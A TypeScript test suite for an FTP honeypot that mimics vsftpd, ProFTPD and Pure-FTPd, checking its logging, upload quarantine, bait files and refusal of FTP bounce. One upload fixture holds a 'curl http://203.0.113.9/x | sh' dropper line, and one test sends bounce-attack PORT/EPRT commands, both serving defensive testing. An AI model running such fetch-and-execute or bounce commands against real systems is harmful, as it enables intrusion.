import { createHash, randomBytes } from "node:crypto"
import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs"
import * as net from "node:net"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { describe, expect, it } from "@effect/vitest"
import { Effect } from "effect"
import { ftpHoneypot } from "../../src/honeypots/ftp/index.js"
import {
  eventsOf,
  nmapService,
  nmapServiceXml,
  rawExchange,
  run,
  scripted,
  TestLayer,
  waitForEvents
} from "./support.js"

const start = (config: unknown = {}) =>
  Effect.map(ftpHoneypot.start({ host: "127.0.0.1", config, port: () => 0 }), (ls) => ls[0]!.port)

const lftp = (port: number, user: string, pass: string, script: string) =>
  run(
    "lftp",
    [
      "-u",
      `${user},${pass}`,
      "-p",
      String(port),
      "-e",
      `set net:max-retries 1; set net:timeout 5; set ftp:ssl-allow no; ${script}; bye`,
      "127.0.0.1"
    ],
    { timeoutMs: 30_000 }
  )

const sha256 = (b: Buffer) => createHash("sha256").update(b).digest("hex")

/** The one `file_captured` line an upload must produce, byte for byte except time and source port. */
const capturedLine = (o: {
  sha: string
  size: number
  path: string
  user: string
  command: string
  complete: boolean
}) =>
  new RegExp(
    `^<134>1 \\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{6}\\+00:00 decky-01 ftp - file_captured \\[relay@55555 ` +
      `src_ip="127\\.0\\.0\\.1" src_port="\\d+" ` +
      `stored_as="\\d{8}T\\d{6}Z_${o.sha.slice(0, 12)}_${o.path.slice(o.path.lastIndexOf("/") + 1).replace(/\./g, "\\.")}" ` +
      `sha256="${o.sha}" size="${o.size}" orig_path="${o.path.replace(/\./g, "\\.")}" ` +
      `ftp_user="${o.user}" command="${o.command}" complete="${o.complete}"\\]$`
  )

/** Files in the quarantine (the `.incoming` scratch dir excluded; it must be empty after a transfer). */
const quarantined = (root: string) => {
  const dir = join(root, "ftp")
  if (!existsSync(dir)) return { files: [] as Array<string>, incoming: [] as Array<string> }
  return {
    files: readdirSync(dir).filter((f) => f !== ".incoming"),
    incoming: existsSync(join(dir, ".incoming")) ? readdirSync(join(dir, ".incoming")) : []
  }
}

describe("ftp honeypot", () => {
  it.scopedLive(
    "lftp logs in (always), lists the seeded bait tree and downloads an archive with gzip magic",
    () =>
      Effect.gen(function* () {
        const port = yield* start({ login_mode: "always" })
        const dir = mkdtempSync(join(tmpdir(), "ftp-"))
        const ls = yield* lftp(port, "backup", "Winter2024!", "ls")
        expect(ls.code).toBe(0)
        const names = ls.stdout
          .trim()
          .split("\n")
          .map((l) => l.split(/\s+/).pop())
        expect(names).toContain("README.txt")
        const archives = names.filter((n) =>
          /^(acme|contoso|northwind|initech|globex|hooli)-(prod|stage|backup|archive)-20(22|23|24)\d{4}\.tar\.gz$/.test(
            n ?? ""
          )
        )
        expect(archives.length).toBeGreaterThanOrEqual(2)
        expect(archives.length).toBeLessThanOrEqual(5)
        const get = yield* lftp(
          port,
          "backup",
          "Winter2024!",
          `lcd ${dir}; get ${archives[0]}; get README.txt`
        )
        expect(get.code).toBe(0)
        expect(readdirSync(dir).sort()).toEqual([archives[0], "README.txt"].sort())
        const bytes = readFileSync(join(dir, archives[0]!))
        expect([...bytes.subarray(0, 3)]).toEqual([0x1f, 0x8b, 0x08])
        expect(bytes.length).toBeGreaterThanOrEqual(2048)
        expect(readFileSync(join(dir, "README.txt"), "utf8")).toMatch(/drop area[\s\S]*ops-\w+@\w+\.internal/)
        const auth = yield* Effect.flatMap(
          waitForEvents((es) => es.filter((e) => e.type === "download_attempt").length >= 2),
          () => eventsOf("auth_attempt")
        )
        expect(auth.length).toBe(2)
        expect(auth[0]!.fields).toMatchObject({
          src_ip: "127.0.0.1",
          username: "backup",
          principal: "backup",
          secret_printable: "Winter2024!",
          secret_b64: Buffer.from("Winter2024!").toString("base64"),
          secret_kind: "plaintext",
          outcome: "success"
        })
        const downloads = yield* eventsOf("download_attempt")
        expect(downloads.map((e) => [e.fields.path, e.fields.src_ip])).toEqual([
          [`/${archives[0]}`, "127.0.0.1"],
          ["/README.txt", "127.0.0.1"]
        ])
        expect((yield* eventsOf("connection"))[0]!.fields.src_ip).toBe("127.0.0.1")
      }).pipe(Effect.provide(TestLayer()))
  )

  it.scopedLive(
    "probabilistic logins are a function of decky, user and password: the same pair gets the same answer on every connection",
    () =>
      Effect.gen(function* () {
        const port = yield* start({ login_success_rate: 0.5, banner: "220 (vsFTPd 3.0.3)" })
        const pairs = Array.from({ length: 8 }, (_, i) => [`user${i}`, `pass${i}`] as const)
        const attempt = ([u, p]: readonly [string, string]) =>
          Effect.map(
            rawExchange(port, `USER ${u}\r\nPASS ${p}\r\n`, { untilIncludes: "\r\n2", timeoutMs: 6000 }),
            (r) => (r.text.includes("230 Login successful.") ? "ok" : "no")
          )
        // Each pair twice, all at once: a refused one answers after the PAM-like delay, not at once.
        const outcomes = yield* Effect.forEach([...pairs, ...pairs], attempt, { concurrency: "unbounded" })
        expect(outcomes.slice(0, 8)).toEqual(outcomes.slice(8))
        expect(new Set(outcomes)).toEqual(new Set(["ok", "no"]))
        const auth = yield* eventsOf("auth_attempt")
        expect(auth.length).toBe(16)
      }).pipe(Effect.provide(TestLayer())),
    30_000
  )

  it.scopedLive(
    "a refused PASS answers after PAM's delay (held on the connection), and the third failure closes the connection",
    () =>
      Effect.gen(function* () {
        const port = yield* start({ login_mode: "never", banner: "220 (vsFTPd 3.0.3)" })
        const r = yield* scripted(port, [
          "USER a\r\nPASS b\r\n",
          2000,
          "USER a\r\nPASS c\r\nUSER a\r\nPASS d\r\nNOOP\r\n",
          9000
        ])
        expect(r.text).toBe(
          "220 (vsFTPd 3.0.3)\r\n" + "331 Please specify the password.\r\n530 Login incorrect.\r\n".repeat(3)
        )
        expect(r.closed).toBe(true)
      }).pipe(Effect.provide(TestLayer())),
    30_000
  )

  it.scopedLive("vsftpd persona: anonymous logs in with any password even under login_mode never", () =>
    Effect.gen(function* () {
      const port = yield* start({ login_mode: "never", banner: "220 (vsFTPd 3.0.3)" })
      const r = yield* rawExchange(port, "USER anonymous\r\nPASS\r\nSTAT\r\nUSER bob\r\nQUIT\r\n", {
        untilIncludes: "221 "
      })
      expect(r.text).toContain("230 Login successful.\r\n211-FTP server status:\r\n")
      expect(r.text).toContain("     Logged in as ftp\r\n")
      expect(r.text).toContain("     vsFTPd 3.0.3 - secure, fast, stable\r\n211 End of status\r\n")
      expect(r.text).toContain("530 Can't change from guest user.\r\n221 Goodbye.\r\n")
      const off = yield* start({
        login_mode: "always",
        anonymous_enable: false,
        banner: "220 (vsFTPd 3.0.3)"
      })
      const o = yield* rawExchange(off, "USER anonymous\r\nPASS x\r\nSTAT\r\nQUIT\r\n", {
        untilIncludes: "221 "
      })
      expect(o.text).toContain("     Logged in as anonymous\r\n")
    }).pipe(Effect.provide(TestLayer()))
  )

  it.scopedLive("login_mode never: 530 Login incorrect and an auth_attempt with outcome failure", () =>
    Effect.gen(function* () {
      const port = yield* start({ login_mode: "never", banner: "220 ProFTPD 1.3.6 Server ready." })
      const r = yield* lftp(port, "root", "toor", "ls")
      expect(r.code).not.toBe(0)
      expect(r.stderr).toContain("Login incorrect")
      const auth = yield* Effect.flatMap(
        waitForEvents((es) => es.some((e) => e.type === "auth_attempt")),
        () => eventsOf("auth_attempt")
      )
      expect(auth[0]!.fields).toMatchObject({
        src_ip: "127.0.0.1",
        principal: "root",
        secret_printable: "toor",
        outcome: "failure"
      })
    }).pipe(Effect.provide(TestLayer()))
  )

  it.scopedLive(
    "greets with exactly one 220; STOR needs a data connection; read-only when max_upload_bytes is 0",
    () =>
      Effect.gen(function* () {
        const port = yield* start({ login_mode: "always", banner: "220 (vsFTPd 3.0.3)" })
        const r = yield* rawExchange(
          port,
          "USER a\r\nPASS b\r\nPORT 127,0,0,1,0,21\r\nSTOR x.txt\r\nQUIT\r\n",
          { untilIncludes: "221" }
        )
        expect(r.text).toBe(
          "220 (vsFTPd 3.0.3)\r\n331 Please specify the password.\r\n230 Login successful.\r\n500 Illegal PORT command.\r\n425 Use PORT or PASV first.\r\n221 Goodbye.\r\n"
        )
        const ro = yield* start({ login_mode: "always", banner: "220 (vsFTPd 3.0.3)", max_upload_bytes: 0 })
        const refused = yield* rawExchange(ro, "USER a\r\nPASS b\r\nPASV\r\nSTOR x.txt\r\nQUIT\r\n", {
          untilIncludes: "221"
        })
        expect(refused.text).toMatch(
          /\r\n227 Entering Passive Mode \(127,0,0,1,\d+,\d+\)\.\r\n550 Permission denied\.\r\n221 Goodbye\.\r\n$/
        )
        expect((yield* eventsOf("upload_attempt")).map((e) => [e.fields.path, e.fields.command])).toEqual([
          ["/x.txt", "STOR"],
          ["/x.txt", "STOR"]
        ])
        // A Pure-FTPd persona answers with Pure-FTPd's wording, not vsftpd's.
        const seeded = yield* start({
          login_mode: "always",
          banner:
            "220---------- Welcome to Pure-FTPd [privsep] [TLS] ----------\r\n220 You will be disconnected after 15 minutes of inactivity."
        })
        const pure = yield* rawExchange(seeded, "USER bob\r\nPASS x\r\nPWD\r\nQUIT\r\n", {
          untilIncludes: "221 Logout."
        })
        expect(pure.text).toMatch(/^220---------- Welcome to Pure-FTPd \[privsep\] \[TLS\] ----------\r\n/)
        expect(pure.text).toContain(
          '331 User bob OK. Password required\r\n230 OK. Current restricted directory is /\r\n257 "/" is your current location\r\n'
        )
        const custom = yield* start({ banner: "Welcome to corp FTP" })
        const g = yield* rawExchange(custom, "", { untilIncludes: "\r\n" })
        expect(g.text).toBe("220 Welcome to corp FTP\r\n")
      }).pipe(Effect.provide(TestLayer()))
  )

  it.scopedLive(
    "lftp put: the upload is quarantined byte for byte, announced, and listed to that session only",
    () => {
      const artifacts = mkdtempSync(join(tmpdir(), "ftp-art-"))
      return Effect.gen(function* () {
        const port = yield* start({ login_mode: "always" })
        const local = mkdtempSync(join(tmpdir(), "ftp-up-"))
        const payload = Buffer.concat([
          Buffer.from("#!/bin/sh\ncurl http://203.0.113.9/x | sh\n"),
          randomBytes(300_000)
        ])
        writeFileSync(join(local, "dropper.sh"), payload)
        const put = yield* lftp(
          port,
          "backup",
          "Winter2024!",
          `lcd ${local}; put dropper.sh; cls -l dropper.sh`
        )
        expect(put.code).toBe(0)
        // The uploading session sees its file, owner-only like vsftpd's anon uploads.
        expect(put.stdout).toMatch(
          new RegExp(`^-rw------- +1 ftp +ftp +${payload.length} .* dropper\\.sh\\n?$`, "m")
        )
        const es = yield* waitForEvents((es) => es.some((e) => e.type === "file_captured"))
        const cap = es.filter((e) => e.type === "file_captured")
        expect(cap.length).toBe(1)
        expect(cap[0]!.raw).toMatch(
          capturedLine({
            sha: sha256(payload),
            size: payload.length,
            path: "/dropper.sh",
            user: "backup",
            command: "STOR",
            complete: true
          })
        )
        const stored = readFileSync(join(artifacts, "ftp", cap[0]!.fields.stored_as!))
        expect(stored.equals(payload)).toBe(true)
        expect(sha256(stored)).toBe(cap[0]!.fields.sha256)
        expect(quarantined(artifacts)).toEqual({ files: [cap[0]!.fields.stored_as], incoming: [] })
        // Another session sees only the bait; RETR of the upload is refused even to its uploader.
        const other = yield* lftp(port, "backup", "Winter2024!", "cls -a")
        expect(other.code).toBe(0)
        expect(other.stdout).toContain("README.txt")
        expect(other.stdout).not.toContain("dropper.sh")
        const r = yield* rawExchange(
          port,
          "USER a\r\nPASS b\r\nRETR dropper.sh\r\nSIZE dropper.sh\r\nQUIT\r\n",
          { untilIncludes: "221" }
        )
        expect(r.text).toContain("550 Failed to open file.\r\n550 Could not get file size.\r\n")
      }).pipe(Effect.provide(TestLayer({ artifactsDir: artifacts })))
    }
  )

  it.scopedLive(
    "curl -T over EPSV, EPRT and PORT; the size cap cuts, discards and logs an oversized upload",
    () => {
      const artifacts = mkdtempSync(join(tmpdir(), "ftp-art-"))
      return Effect.gen(function* () {
        const port = yield* start({ login_mode: "always", max_upload_bytes: 64 * 1024 })
        const local = mkdtempSync(join(tmpdir(), "ftp-up-"))
        const modes: ReadonlyArray<readonly [string, ReadonlyArray<string>, string]> = [
          ["epsv.bin", [], "STOR"],
          ["eprt.bin", ["-P", "-"], "STOR"],
          ["port.bin", ["-P", "-", "--disable-eprt"], "STOR"],
          ["appe.bin", ["--append"], "APPE"]
        ]
        const bodies = new Map<string, Buffer>()
        for (const [name, flags] of modes) {
          const body = randomBytes(10_000 + bodies.size * 7_777)
          bodies.set(name, body)
          writeFileSync(join(local, name), body)
          const url = `ftp://ops:pw@127.0.0.1:${port}/${name}`
          const r = yield* run("curl", ["-s", "-S", "-v", ...flags, "-T", join(local, name), url])
          expect(r.code).toBe(0)
          // Each mode really used its own data-connection command (curl could otherwise fall back).
          const wanted = name.startsWith("eprt")
            ? "200 EPRT command successful"
            : name.startsWith("port")
              ? "200 PORT command successful"
              : "229 Entering Extended Passive Mode"
          expect(r.stderr).toContain(`< ${wanted}`)
          expect(r.stderr).toContain("< 226 Transfer complete.")
        }
        const big = randomBytes(200_000)
        writeFileSync(join(local, "big.iso"), big)
        const tooBig = yield* run("curl", [
          "-s",
          "-S",
          "-T",
          join(local, "big.iso"),
          `ftp://ops:pw@127.0.0.1:${port}/big.iso`
        ])
        expect(tooBig.code).not.toBe(0)
        const es = yield* waitForEvents(
          (es) =>
            es.filter((e) => e.type === "file_captured").length >= 4 &&
            es.some((e) => e.type === "file_skipped")
        )
        const cap = es.filter((e) => e.type === "file_captured")
        expect(cap.map((e) => e.fields.orig_path)).toEqual(modes.map(([n]) => `/${n}`))
        for (const [i, [name, , command]] of modes.entries()) {
          const body = bodies.get(name)!
          expect(cap[i]!.raw).toMatch(
            capturedLine({
              sha: sha256(body),
              size: body.length,
              path: `/${name}`,
              user: "ops",
              command,
              complete: true
            })
          )
          expect(readFileSync(join(artifacts, "ftp", cap[i]!.fields.stored_as!)).equals(body)).toBe(true)
        }
        const skipped = es.filter((e) => e.type === "file_skipped")
        expect(skipped.length).toBe(1)
        expect(skipped[0]!.fields).toMatchObject({
          orig_path: "/big.iso",
          reason: "too_large",
          max_bytes: "65536",
          src_ip: "127.0.0.1",
          ftp_user: "ops",
          command: "STOR"
        })
        expect(Number(skipped[0]!.fields.size)).toBeGreaterThan(64 * 1024)
        // Nothing of the oversized upload is kept, not even a partial file.
        expect(quarantined(artifacts).files.sort()).toEqual(cap.map((e) => e.fields.stored_as).sort())
        expect(quarantined(artifacts).incoming).toEqual([])
      }).pipe(Effect.provide(TestLayer({ artifactsDir: artifacts })))
    }
  )

  it.scopedLive("STAT echoes the user name like every other reply: printable ASCII only", () =>
    Effect.gen(function* () {
      const port = yield* start({ login_mode: "always", banner: "220 (vsFTPd 3.0.3)" })
      // A bare CR and an ESC inside USER (the line ends only at LF) must not reach the client raw.
      const r = yield* rawExchange(port, "USER a\rb\x1b[2J\r\nPASS x\r\nSTAT\r\nQUIT\r\n", {
        untilIncludes: "221"
      })
      expect(r.text).toContain("\r\n     Logged in as a?b?[2J\r\n")
      expect(r.text).not.toMatch(/[\x00-\x09\x0b\x0c\x0e-\x1f\x7f]/)
      expect(r.text.replace(/\r\n/g, "")).not.toContain("\r")
    }).pipe(Effect.provide(TestLayer()))
  )

  it.scopedLive(
    "FTP bounce: PORT/EPRT to any address but the client's own are refused and never connected to",
    () =>
      Effect.gen(function* () {
        // A bystander on another loopback address: it must see no connection at all.
        let touched = 0
        const bystander = net.createServer((s) => {
          touched++
          s.destroy()
        })
        yield* Effect.acquireRelease(
          Effect.async<void>((resume) => {
            bystander.listen(0, "127.0.0.2", () => resume(Effect.void))
          }),
          () => Effect.sync(() => bystander.close())
        )
        const addr = bystander.address()
        const bport = typeof addr === "object" && addr !== null ? addr.port : 0
        const port = yield* start({ login_mode: "always", banner: "220 (vsFTPd 3.0.5)" })
        const script = [
          "USER a",
          "PASS b",
          `PORT 127,0,0,2,${bport >> 8},${bport & 0xff}`,
          "LIST",
          `EPRT |1|127.0.0.2|${bport}|`,
          "STOR loot.txt",
          `EPRT |2|::1|${bport}|`,
          "EPRT |1|127.0.0.1|80|",
          "PORT 10,0,0,1,300,1",
          "QUIT"
        ]
        const r = yield* rawExchange(port, `${script.join("\r\n")}\r\n`, { untilIncludes: "221" })
        expect(r.text.split("\r\n").slice(3)).toEqual([
          "500 Illegal PORT command.",
          "425 Use PORT or PASV first.",
          "500 Illegal EPRT command.",
          "425 Use PORT or PASV first.",
          // An IPv6 address on an IPv4 control connection: vsftpd checks the protocol first.
          "500 Bad EPRT protocol.",
          "500 Illegal EPRT command.",
          "500 Illegal PORT command.",
          "221 Goodbye.",
          ""
        ])
        expect(touched).toBe(0)
        const bounces = yield* eventsOf("bounce_attempt")
        expect(bounces.map((e) => [e.fields.command, e.fields.target_ip, e.fields.target_port])).toEqual([
          ["PORT", "127.0.0.2", String(bport)],
          ["EPRT", "127.0.0.2", String(bport)],
          ["EPRT", "::1", String(bport)]
        ])
      }).pipe(Effect.provide(TestLayer()))
  )

  it.scopedLive(
    "nmap -sV identifies vsftpd / ProFTPD / Pure-FTPd personas",
    () =>
      Effect.gen(function* () {
        const expected: ReadonlyArray<readonly [string, string, string]> = [
          ["220 (vsFTPd 3.0.5)", "vsftpd", "3.0.5"],
          ["220 ProFTPD 1.3.7a Server ready.", "ProFTPD", "1.3.7a"]
        ]
        for (const [banner, product, version] of expected) {
          const port = yield* start({ banner })
          const xml = yield* nmapServiceXml(port)
          expect(nmapService(xml)).toMatchObject({ name: "ftp", product, version })
          expect(xml.toLowerCase()).not.toContain("honeypot")
        }
        // The seeded default for decky-01, whatever flavour it drew, must be recognised too.
        const seeded = yield* start()
        expect(["vsftpd", "ProFTPD", "Pure-FTPd"]).toContain(
          nmapService(yield* nmapServiceXml(seeded)).product
        )
      }).pipe(Effect.provide(TestLayer())),
    300_000
  )
})
